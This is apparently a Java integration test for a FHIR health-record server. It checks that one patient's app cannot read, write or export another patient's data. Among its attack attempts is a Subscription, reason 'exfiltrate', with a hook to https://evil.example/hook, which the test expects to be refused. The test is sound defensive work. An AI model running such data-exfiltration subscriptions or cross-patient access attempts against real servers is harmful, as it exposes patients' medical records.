package org.openimd.server.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.openimd.server.security.SmartAppLaunchIT.assertThatForbidden;

import ca.uhn.fhir.rest.client.api.IGenericClient;
import ca.uhn.fhir.rest.client.interceptor.BearerTokenAuthInterceptor;
import ca.uhn.fhir.rest.server.exceptions.BaseServerResponseException;
import com.fasterxml.jackson.databind.JsonNode;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;
import org.hl7.fhir.r4.model.Bundle;
import org.hl7.fhir.r4.model.Device;
import org.hl7.fhir.r4.model.IdType;
import org.hl7.fhir.r4.model.Observation;
import org.hl7.fhir.r4.model.Parameters;
import org.hl7.fhir.r4.model.Patient;
import org.hl7.fhir.r4.model.Reference;
import org.hl7.fhir.r4.model.Subscription;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openimd.server.BaseServerIT;
import org.openimd.server.TestClients;
import org.openimd.server.security.login.Role;
import org.openimd.server.security.login.UserAccount;
import org.openimd.server.security.login.UserAccounts;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Patient A's app, holding {@code patient/*.cruds}, tries every way the reference lists to reach
 * patient B's data. Each must fail or return nothing of B's.
 */
class CrossPatientIT extends BaseServerIT {

	@Autowired
	UserAccounts accounts;

	SmartAppLaunchIT.World world;
	IGenericClient appOfA;

	@BeforeEach
	void patientAsApp() throws Exception {
		world = SmartAppLaunchIT.twoPatients(client);
		UserAccount patientA = accounts.create("it-cross-" + UUID.randomUUID(), SmartAppLaunchIT.PASSWORD, Role.PATIENT,
				Optional.of("Patient/" + world.patientA()), Optional.empty());
		AppAuthorization flow = new AppAuthorization(baseUrl());
		Map<String, String> redirect = flow.authorize(flow.authorizationUrl(TestClients.PUBLIC_APP, "openid launch/patient patient/*.cruds", Map.of()),
				patientA, SmartAppLaunchIT.PASSWORD);
		JsonNode tokens = AppAuthorization.json(flow.exchangeCode(TestClients.PUBLIC_APP, null, redirect.get("code")));
		appOfA = FHIR.newRestfulGenericClient(fhirBase());
		appOfA.registerInterceptor(new BearerTokenAuthInterceptor(tokens.get("access_token").asText()));
	}

	@Test
	void searchesNamingPatientBAreRefusedAndOpenSearchesFindOnlyA() {
		assertThatForbidden(() -> appOfA.search().forResource(Observation.class).where(Observation.PATIENT.hasId("Patient/" + world.patientB()))
				.returnBundle(Bundle.class).execute());
		assertThatForbidden(() -> appOfA.search().forResource(Device.class).where(Device.PATIENT.hasId("Patient/" + world.patientB()))
				.returnBundle(Bundle.class).execute());
		assertThat(ids(appOfA.search().forResource(Patient.class).returnBundle(Bundle.class).execute())).containsExactly(world.patientA());
		assertThat(appOfA.search().forResource(Observation.class).summaryMode(ca.uhn.fhir.rest.api.SummaryEnum.COUNT)
				.returnBundle(Bundle.class).execute().getTotal()).isLessThanOrEqualTo(1);
	}

	@Test
	void includesBringInAsOwnDataAndLeaveOutBs() {
		Observation pointingAtB = SmartAppLaunchIT.vitalSign(world.patientA());
		pointingAtB.addPerformer(new Reference("Patient/" + world.patientB()));
		client.create().resource(pointingAtB).execute();
		// focus, unlike performer, does not put B's Observation in A's Patient compartment.
		Observation ofBPointingAtA = SmartAppLaunchIT.vitalSign(world.patientB());
		ofBPointingAtA.addFocus(new Reference("Patient/" + world.patientA()));
		String ofB = client.create().resource(ofBPointingAtA).execute().getId().getIdPart();

		Bundle found = appOfA.search().forResource(Observation.class)
				.include(Observation.INCLUDE_PERFORMER)
				.include(Observation.INCLUDE_SUBJECT)
				.returnBundle(Bundle.class)
				.execute();
		assertThat(ids(found)).contains(world.patientA(), world.observationA()).doesNotContain(world.patientB(), world.observationB());

		Bundle withReverse = appOfA.search().forResource(Patient.class)
				.revInclude(Observation.INCLUDE_FOCUS)
				.returnBundle(Bundle.class)
				.execute();
		assertThat(ids(withReverse)).containsExactly(world.patientA()).doesNotContain(ofB);
	}

	@Test
	void everythingOfBIsRefusedAndEverythingOfAHoldsOnlyA() {
		assertThatForbidden(() -> appOfA.operation().onInstance(new IdType("Patient", world.patientB())).named("$everything")
				.withNoParameters(Parameters.class).returnResourceType(Bundle.class).execute());
		Bundle everything = appOfA.operation().onInstance(new IdType("Patient", world.patientA())).named("$everything")
				.withNoParameters(Parameters.class).returnResourceType(Bundle.class).execute();
		assertThat(ids(everything)).contains(world.patientA(), world.observationA())
				.doesNotContain(world.patientB(), world.observationB(), world.deviceB());
	}

	@Test
	void aTransactionWithOneEntryForBIsRejectedWhole() {
		Observation forA = SmartAppLaunchIT.vitalSign(world.patientA());
		forA.addIdentifier(uniqueIdentifier());
		Bundle transaction = new Bundle().setType(Bundle.BundleType.TRANSACTION);
		transaction.addEntry().setResource(forA).getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl("Observation");
		transaction.addEntry().setResource(SmartAppLaunchIT.vitalSign(world.patientB())).getRequest().setMethod(Bundle.HTTPVerb.POST).setUrl("Observation");

		assertThatForbidden(() -> appOfA.transaction().withBundle(transaction).execute());
		assertThat(client.search().forResource(Observation.class)
				.where(Observation.IDENTIFIER.exactly().systemAndCode(forA.getIdentifierFirstRep().getSystem(), forA.getIdentifierFirstRep().getValue()))
				.returnBundle(Bundle.class).execute().getEntry()).as("nothing of the transaction was written").isEmpty();
	}

	@Test
	void writesCannotMoveDataToBOrTouchBsData() {
		Observation own = appOfA.read().resource(Observation.class).withId(world.observationA()).execute();
		own.setSubject(new Reference("Patient/" + world.patientB()));
		assertThatForbidden(() -> appOfA.update().resource(own).execute());

		Observation conditional = SmartAppLaunchIT.vitalSign(world.patientA());
		assertThatRefused(() -> appOfA.update().resource(conditional)
				.conditionalByUrl("Observation?_id=" + world.observationB()).execute());
		assertThat(client.read().resource(Observation.class).withId(world.observationB()).execute().getSubject().getReference())
				.endsWith("Patient/" + world.patientB());

		assertThatRefused(() -> appOfA.patch().withBody("[{\"op\":\"replace\",\"path\":\"/status\",\"value\":\"cancelled\"}]")
				.withId(new IdType("Observation", world.observationB())).execute());
		assertThatForbidden(() -> appOfA.create().resource(SmartAppLaunchIT.vitalSign(world.patientB())).execute());
		assertThat(appOfA.create().resource(SmartAppLaunchIT.vitalSign(world.patientA())).execute().getCreated()).isTrue();
	}

	@Test
	void historyGraphqlFilterReverseChainsAndChainsAreRefused() throws Exception {
		for (String path : List.of("/_history", "/Observation/_history", "/$graphql?query=%7BPatientList%7Bid%7D%7D",
				"/Observation?_filter=subject%20eq%20Patient/" + world.patientB(),
				"/Patient?_has:Observation:patient:code=8867-4", "/Observation?subject.name=Beta")) {
			assertThat(statusOf(path)).as(path).isIn(400, 403);
		}
	}

	@Test
	void subscriptionsAndAdministrativeOperationsAreRefused() throws Exception {
		Subscription subscription = new Subscription().setStatus(Subscription.SubscriptionStatus.REQUESTED).setCriteria("Observation?")
				.setReason("exfiltrate");
		subscription.getChannel().setType(Subscription.SubscriptionChannelType.RESTHOOK).setEndpoint("https://evil.example/hook");
		assertThatForbidden(() -> appOfA.create().resource(subscription).execute());
		assertThatRefused(() -> appOfA.operation().onServer().named("$expunge").withNoParameters(Parameters.class).execute());
		assertThatRefused(() -> appOfA.operation().onServer().named("$reindex").withNoParameters(Parameters.class).execute());
	}

	private int statusOf(String thePath) throws Exception {
		String token = ((BearerTokenAuthInterceptor) appOfA.getInterceptorService().getAllRegisteredInterceptors().stream()
				.filter(BearerTokenAuthInterceptor.class::isInstance).findFirst().orElseThrow()).getToken();
		return HttpClient.newHttpClient().send(HttpRequest.newBuilder(java.net.URI.create(fhirBase() + thePath))
				.header("Authorization", "Bearer " + token).build(), HttpResponse.BodyHandlers.ofString()).statusCode();
	}

	private static void assertThatRefused(Runnable theCall) {
		try {
			theCall.run();
		} catch (BaseServerResponseException refused) {
			assertThat(refused.getStatusCode()).isIn(400, 403, 404, 412);
			return;
		}
		throw new AssertionError("the call was allowed");
	}

	static List<String> ids(Bundle theBundle) {
		return theBundle.getEntry().stream().map(entry -> entry.getResource().getIdElement().getIdPart()).toList();
	}
}
